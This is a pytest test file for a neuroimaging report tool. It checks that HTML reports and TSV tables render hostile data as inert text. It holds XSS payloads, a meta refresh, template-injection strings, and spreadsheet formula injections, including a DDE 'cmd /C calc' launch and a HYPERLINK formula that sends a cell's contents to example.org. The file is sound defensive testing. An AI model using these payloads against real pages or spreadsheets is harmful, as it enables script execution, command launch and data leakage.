"""Texts in data that a browser would execute or a spreadsheet would evaluate: shown as plain text."""

import csv
import re
import subprocess
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote

import numpy as np
import pytest

import neurofm_bids
from neurofm_bids.bids.demographics import Person
from neurofm_bids.config import Processing
from neurofm_bids.group.run import write_group
from neurofm_bids.pretrain.evaluation.report import write_evaluation
from neurofm_bids.pretrain.evaluation.summary import TARGETS, EvaluatedScan
from neurofm_bids.records.attribution import Attribution, RegionAttribution
from neurofm_bids.records.cohort import Missing
from neurofm_bids.records.failure import Failure
from neurofm_bids.records.flag import Flag
from neurofm_bids.records.judgement import Judgement
from neurofm_bids.records.scan import Identity, Input, Model
from neurofm_bids.records.score import Profile, Score, ScorePart
from neurofm_bids.report.assets import group_policy, group_script, script_policy
from neurofm_bids.report.charts import new_figure, plot_agreement
from neurofm_bids.report.contents import Curve, Measured, ReadoutAbout, ScanReport
from neurofm_bids.report.group import render_group_report
from neurofm_bids.report.participant import write_participant_report
from neurofm_bids.storage.tables import cell
from tests.report.cohort_tables import cohort_of, simulated
from tests.samples import MEASUREMENTS, prediction, scan_record, write_scan

REPORT = Path(neurofm_bids.__file__).parent / "report"
BASE, SCRIPTS = REPORT / "templates" / "base.html.j2", REPORT / "assets"

# ----------------------------------------------------------------------------------------------- pages

RUN = "document.title='pwned'"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}",
    f"javascript:{RUN}",
    f"</style><script>{RUN}</script>",
    f"</title></text></svg><svg onload={RUN}>",
    f"]]><script>{RUN}</script>",
    f"--><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    '<meta http-equiv="refresh" content="0;url=https://example.org">',
    "{{7*7}}{% raw %}${7*7}#{7*7}",
    "&lt;b&gt; &#60;b&#62;",
    'id="x" url(#x) href="#x" xmlns="x"',
)
HOSTILE = " ".join(PAYLOADS)
NAME = PAYLOADS[1]  # names within figures are drawn, so one of a usual length


HOSTILE_SCORE = Score(
    HOSTILE,
    HOSTILE,
    "time-to-event",
    HOSTILE,
    HOSTILE,
    HOSTILE,
    0.5,
    parts=(ScorePart(HOSTILE, 0.5, None, 5.0),),
    notes=("quality_failed",),
    reason=HOSTILE,
    training=HOSTILE,
)


HOSTILE_READOUT = ReadoutAbout(HOSTILE, HOSTILE, ((HOSTILE, 1.0, None),), HOSTILE, (HOSTILE,))


class Page(HTMLParser):
    """The elements, attributes and visible text of a page."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.words, self.styles, self.titles = [], [], [], [], []
        self.scripts = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attributes]

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        last = self.tags[-1] if self.tags else ""
        {"style": self.styles, "script": self.scripts}.get(last, self.words).append(data)
        if last == "title":
            self.titles.append(data)

    @property
    def text(self):
        return " ".join(" ".join(self.words).split())

    @property
    def values(self):
        return " ".join(" ".join(value for _, _, value in self.attributes).split())

    @property
    def title(self):
        return self.titles[0]

    @property
    def policy(self):
        policies = (value for tag, name, value in self.attributes if tag == "meta" and "default-src" in value)
        return next(policies, "")


KEPT = re.compile(r"#|data:image/(svg\+xml,|(svg\+xml|png|jpeg);base64,)|sub-[^:]*\.html$")


def is_own(script):
    """Tell whether a script is that of the reports, byte for byte."""
    group = str(group_script()).removeprefix("<script>").removesuffix("</script>")
    return script.strip() in {(SCRIPTS / "report.js").read_text().strip(), group.strip()}


def faults(html):
    """Yield what a page could run or fetch."""
    page = Page(html)
    acting = {"iframe", "frame", "object", "embed", "base", "form", "link", "audio", "video"}
    yield from sorted(acting & set(page.tags))
    if "script" in page.tags and not (page.tags.count("script") == 1 and is_own("".join(page.scripts))):
        yield "script"
    own = {policy.removeprefix("script-src") for policy in (script_policy(), group_policy())}
    if set(re.findall(r"script-src([^;]*)", page.policy)) - own:
        yield "a policy that admits other scripts"
    for tag, name, value in page.attributes:
        if name.startswith("on") or name in {"srcdoc", "srcset", "ping"}:
            yield f"{tag} has {name}"
        if name in {"href", "src", "xlink:href", "action", "data", "poster"} and not KEPT.match(value):
            yield f"{tag} leads to {value}"
        if tag == "meta" and name == "http-equiv" and value != "Content-Security-Policy":
            yield f"meta {value}"
    styles = [*page.styles, *(value for _, name, value in page.attributes if name == "style")]
    yield from re.findall(r"url\((?!#)[^)]*\)|@import.*|expression\(.*", " ".join(styles))


@pytest.mark.parametrize(
    "html",
    [
        *PAYLOADS[:1],
        f'<a title="{PAYLOADS[1]}">',
        f"<a title='{PAYLOADS[2]}'>",
        f"<a href='{PAYLOADS[3]}'>x</a>",
        PAYLOADS[7],
        PAYLOADS[8],
        "<img src='https://example.org/x.png'>",
        "<a href='//example.org'>x</a>",
        "<style>a { background: url(https://example.org) }</style>",
        "<p style='background: url(x)'>",
    ],
)
def test_the_check_of_pages_finds(html):
    assert list(faults(html))


def participant_page(folder):
    """The report of a participant of whom every text is hostile."""
    hostile = prediction(15200.0, HOSTILE, long_name=HOSTILE, description=HOSTILE)
    made = scan_record()
    parameters = {
        "skull_strip": HOSTILE,
        "bias_correction": HOSTILE,
        "template": HOSTILE,
        "encode_space": HOSTILE,
        "views": 2,
        "precision": HOSTILE,
    }
    versions = dict.fromkeys(("neurofm-bids", "deepbet", "torch"), HOSTILE)
    provenance = replace(
        made.provenance,
        model=replace(Model(HOSTILE, HOSTILE, HOSTILE, HOSTILE, HOSTILE), name="open-s"),
        input=Input(HOSTILE, 1, 1),
        parameters=parameters,
        software=versions,
    )
    regions = {HOSTILE: RegionAttribution(1.0, 1.0, 1.0)}
    record = replace(
        made,
        scan=Identity(f"bids:raw:{HOSTILE}", HOSTILE, HOSTILE),
        measurements=replace(
            MEASUREMENTS, brain_extraction=replace(MEASUREMENTS.brain_extraction, version=HOSTILE)
        ),
        predictions={HOSTILE: hostile},
        image_quality={HOSTILE: 1.0},
        flags=(Flag(HOSTILE, HOSTILE, "serious"),),
        quality=Judgement("fail", (HOSTILE,)),
        attributions={HOSTILE: Attribution(HOSTILE, HOSTILE, 1.0, 0.0, 0.0, 0.0, 1, regions)},
        provenance=provenance,
    )
    (folder / "mask.svg").write_text(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"/>")
    path = folder / "participant.html"
    write_participant_report(
        path,
        HOSTILE,
        [
            ScanReport(
                record,
                Person(30.0, HOSTILE, HOSTILE),
                dict.fromkeys(("mask", "attribution"), folder / "mask.svg"),
                curves={HOSTILE: Curve((20.0, 80.0), {50: (1.0, 2.0)}, HOSTILE)},
                measured={HOSTILE: Measured(1.0)},
                reference=HOSTILE,
                profile=Profile("ok", {HOSTILE: (HOSTILE_SCORE,)}),
                readouts={
                    HOSTILE: ReadoutAbout(HOSTILE, HOSTILE, ((HOSTILE, 1.0, None),), HOSTILE, (HOSTILE,))
                },
                risks={HOSTILE: Curve((0.0, 5.0), {50: (0.0, 0.5)}, HOSTILE)},
            )
        ],
        [Failure(HOSTILE, HOSTILE, HOSTILE, HOSTILE, HOSTILE, HOSTILE)],
        command=HOSTILE,
        software={HOSTILE: HOSTILE},
    )
    return path


def group_page(folder):
    """The report of a cohort of which every text is hostile."""
    tables = {name: hostile_table(table) for name, table in simulated(10).items()}
    cohort = cohort_of(
        10,
        label=HOSTILE,
        missing=(Missing(HOSTILE, HOSTILE),),
        made=replace(scan_record().provenance, model=Model(*[HOSTILE] * 5), software={HOSTILE: HOSTILE}),
        weights_sha256=(HOSTILE,),
        warnings=(HOSTILE,),
    )
    html = render_group_report(tables, cohort, {}, HOSTILE, (HOSTILE,), remarks=(HOSTILE,))
    path = folder / "group.html"
    path.write_text(html)
    return path


def hostile_table(table):
    """Return a table with hostile texts in its cells and in the meaning of its columns."""
    frame = table.frame.copy()
    names = {"participant_id", "session_id", "site", "flags", "quality_reasons", "kind", "action", "method"}
    frame = frame.assign(**dict.fromkeys(names & set(frame.columns), HOSTILE))
    if "scan" in frame:
        frame = frame.assign(scan=[f"{HOSTILE} {place}" for place in range(len(frame))], **{NAME: 1.0})
    if "quality" in frame:
        frame["quality"] = "fail"
    columns = {name: {"LongName": HOSTILE, "Description": HOSTILE, "Units": NAME} for name in frame}
    return replace(table, frame=frame, columns=columns, about={"Description": HOSTILE})


def evaluation_page(folder):
    scans = [
        EvaluatedScan(
            name=NAME if value == 99 else HOSTILE,
            participant=HOSTILE,
            known=dict.fromkeys(TARGETS, float(value % 2)) | {"age": 50 + 0.9 * place},
            predicted=dict.fromkeys(TARGETS, float(value)),
            mask_ml=1500.0,
            session=HOSTILE,
            style=HOSTILE,
            other_masks={HOSTILE: dict.fromkeys(TARGETS, 1.0)},
        )
        for place, value in enumerate((50, 51, 52, 53, 54, 55, 56, 57, 58, 99))
    ]
    return write_evaluation(scans, {HOSTILE: HOSTILE}, folder, Processing(model=HOSTILE, views=1), HOSTILE)


MAKERS = {"participant": participant_page, "group": group_page, "evaluation": evaluation_page}


@pytest.fixture(scope="module", params=MAKERS)
def hostile_page(request, tmp_path_factory):
    return MAKERS[request.param](tmp_path_factory.mktemp(request.param))


def shown(page):
    """Return the payloads that a reader sees word for word."""
    return [payload for payload in PAYLOADS if " ".join(payload.split()) in page.text]


@pytest.mark.fault(
    "HTML or a script in participants.tsv, a sidecar, a file name or a log",
    "the reports show it as text",
)
def test_pages_show_hostile_text_and_run_nothing(hostile_page):
    html = hostile_page.read_text()
    assert list(faults(html)) == []
    assert shown(Page(html)) == list(PAYLOADS)


def test_every_figure_shows_a_hostile_name_as_text(tmp_path):
    html = evaluation_page(tmp_path).read_text()
    drawings = [Page(drawing) for drawing in re.findall(r"<svg.*?</svg>", html, re.DOTALL)]
    assert [NAME in drawing.text for drawing in drawings] == [True] * 3


def test_hover_texts_and_descriptions_hold_hostile_text(tmp_path):
    values = Page(group_page(tmp_path).read_text()).values
    assert " ".join(HOSTILE.split()) in values


def test_figures_leave_text_alone_that_looks_like_an_attribute():
    name = 'id="x" url(#x) href="#x" xmlns="x"'
    values = np.arange(9.0)
    drawing = plot_agreement(values, values, ("a",) * 9, (name, "y"), "n", "d")
    assert name in Page(drawing).text
    assert 'id="n-' in drawing
    assert "http" not in drawing


def test_figures_do_not_depend_on_a_matplotlibrc():
    import matplotlib as mpl

    with mpl.rc_context({"text.usetex": True, "font.size": 40}), new_figure((1, 1)):
        assert mpl.rcParams["text.usetex"] is False
        assert mpl.rcParams["font.size"] == 9


@pytest.mark.parametrize("subject", ["<img src=x onerror=alert(1)>", 'a"b', "a:b#c?d%2e&amp;"])
def test_a_participant_with_an_odd_folder_name_is_linked_and_shown(tmp_path, subject):
    write_scan(tmp_path, f"sub-{subject}")
    (tmp_path / f"sub-{subject}.html").touch()
    write_group(tmp_path, "openS", bids_dir=tmp_path)
    html = (tmp_path / "group_desc-openS.html").read_text()
    assert list(faults(html)) == []
    links = [value for tag, name, value in Page(html).attributes if name == "href" and value[0] != "#"]
    assert [unquote(link, errors="surrogateescape") for link in links] == [
        f"sub-{subject}.html".encode(errors="replace").decode()
    ]


def test_a_record_whose_text_is_not_unicode_is_missing(tmp_path):
    write_scan(tmp_path, "sub-01")
    write_scan(tmp_path, "sub-\udcff")
    (missing,) = write_group(tmp_path, "openS", bids_dir=tmp_path).missing
    assert (missing.stem, "the record cannot be used" in missing.reason) == ("sub-\udcff", True)
    html = (tmp_path / "group_desc-openS.html").read_text()
    assert list(faults(html)) == []
    assert "<td>sub-?</td>" in html


@pytest.fixture(scope="session")
def browse(browser, tmp_path_factory):
    """Return a function that opens a page in a real browser and returns its document afterwards."""
    flags = "headless no-sandbox disable-gpu disable-quic no-first-run disable-background-networking"
    flags += " disable-component-update disable-sync hide-scrollbars virtual-time-budget=3000"

    def document(path, *options):
        profile = f"--user-data-dir={tmp_path_factory.mktemp('profile')}"
        command = [browser, *(f"--{flag}" for flag in flags.split()), profile, *options, "--dump-dom"]
        done = subprocess.run(
            [*command, path.as_uri()], capture_output=True, text=True, check=True, timeout=120
        )
        return done.stdout

    return document


MADE = {"button", "canvas", "i", "input", "label", "optgroup", "option", "select"}  # by the group report
ACTING = ("img", "svg", "iframe", "meta", "style", "title", "template", "form", "object")
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')


@pytest.mark.browser
@pytest.mark.fault("a report on hostile data is opened in a browser", "nothing in it is executed")
@pytest.mark.parametrize("policy", [True, False], ids=["as written", "without its policy"])
def test_nothing_runs_in_a_browser(hostile_page, browse, tmp_path, policy):
    """Also without the policy, so that escaping alone is seen to hold."""
    html = hostile_page.read_text()
    path = tmp_path / "page.html"
    path.write_text(html if policy else POLICY.sub("", html))
    before, after = Page(path.read_text()), Page(browse(path))
    assert after.title.split() == before.title.split()
    assert "pwned" not in after.title.replace(RUN, "")
    assert set(after.tags) - {"tbody"} - MADE <= set(before.tags)
    assert [after.tags.count(tag) for tag in ACTING] == [before.tags.count(tag) for tag in ACTING]
    assert shown(after) == list(PAYLOADS)


@pytest.mark.browser
def test_the_policy_stops_what_would_run(browse, tmp_path):
    """The same browser does run these payloads where nobody escapes them, unless the policy forbids it."""
    policy = POLICY.search(BASE.read_text()).group()
    for payload in (PAYLOADS[0], PAYLOADS[1]):
        page = f"<title>before</title><p>{payload}"
        (tmp_path / "open.html").write_text(page)
        (tmp_path / "shut.html").write_text(policy + page)
        assert Page(browse(tmp_path / "open.html")).title == "pwned"
        assert Page(browse(tmp_path / "shut.html")).title == "before"


# ---------------------------------------------------------------------------------------------- tables

FORMULAS = (
    '=HYPERLINK("https://example.org?"&A1,"click")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    " =1+1",
    '"=1+1"',
    "\uff1d1+1",
    "\uff0b1+1",
    "-1e5-A1",
)
BREAKS = (
    "a\tb",
    "a\nb",
    "a\r\nb",
    "a\x0bb\x0cc",
    "a\x85b",
    "a\u2028b\u2029c",
    "a\0b",
    '"a\tb',
    '"a\nb',
    'a "b" c',
)


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.fault(
    "a table cell that a spreadsheet would evaluate", "a leading apostrophe turns it into text"
)
def test_formulas_are_inert(text):
    assert cell(text) == "'" + text.strip()


@pytest.mark.parametrize("text", ["-12.5", "+3", "-1e-05", "12", "plain", "a=b", "a-b", "sub-01", "'quoted"])
def test_numbers_and_plain_text_stay(text):
    assert cell(text) == text


def table(path):
    """Read a table as a spreadsheet does, with quotation marks, and by splitting; both must agree."""
    text = path.read_text(encoding="utf-8")
    quoted = list(csv.reader(text.split("\n")[:-1], delimiter="\t"))
    assert quoted == [line.split("\t") for line in text.removesuffix("\n").split("\n")]
    assert {len(row) for row in quoted} == {len(quoted[0])}
    return [dict(zip(quoted[0], row, strict=True)) for row in quoted[1:]]


@pytest.mark.parametrize("text", [*FORMULAS, *BREAKS])
@pytest.mark.fault("a tab, line end or quotation mark in data", "each scan keeps its row and columns")
def test_group_tables_keep_their_shape(tmp_path, text):
    bids = tmp_path / "bids"
    (bids / "sub-01").mkdir(parents=True)
    out = tmp_path / "out"
    shown = " ".join(text.replace("\t", " ").split())
    (bids / "participants.tsv").write_text(f"participant_id\tage\tnote\nsub-01\t30\t{shown}\n")
    write_scan(out, "sub-01", flags=(Flag(text, text),), image_quality={text: 1.0}, acquisition={text: text})
    write_scan(out, "sub-02", seed=1)
    write_group(out, "openS", bids_dir=bids)
    tables = [path for path in out.rglob("*.tsv") if path.parent.name != "anat"]
    assert len(tables) == 10
    for path in tables:
        rows = table(path)
        if path.name.rsplit("_")[-1] not in {"statistics.tsv", "review.tsv", "drift.tsv"}:
            assert [row["participant_id"] for row in rows] == ["sub-01", "sub-02"]
        cells = [value for row in rows for value in (*row, *row.values())]
        assert [value for value in cells if value[0] in "=+@" or re.match(r"-.*[^\d.e-]", value)] == []
    assert table(out / "group_desc-openS_predictions.tsv")[0]["flags"] == cell(text)
    assert cell(text) in table(out / "group_desc-openS_covariates.tsv")[0].values()


@pytest.mark.parametrize("text", [*FORMULAS, *BREAKS])
def test_the_table_of_an_evaluation_keeps_its_shape(tmp_path, text):
    known = dict.fromkeys(TARGETS, 1.0)
    scan = EvaluatedScan(text, text, known, known, 1500.0, style=text)
    write_evaluation([scan], {}, tmp_path, Processing(model="m", views=1), "a" * 64)
    (row,) = table(tmp_path / "evaluation.tsv")
    assert row["scan"] == row["stripping"] == cell(text)
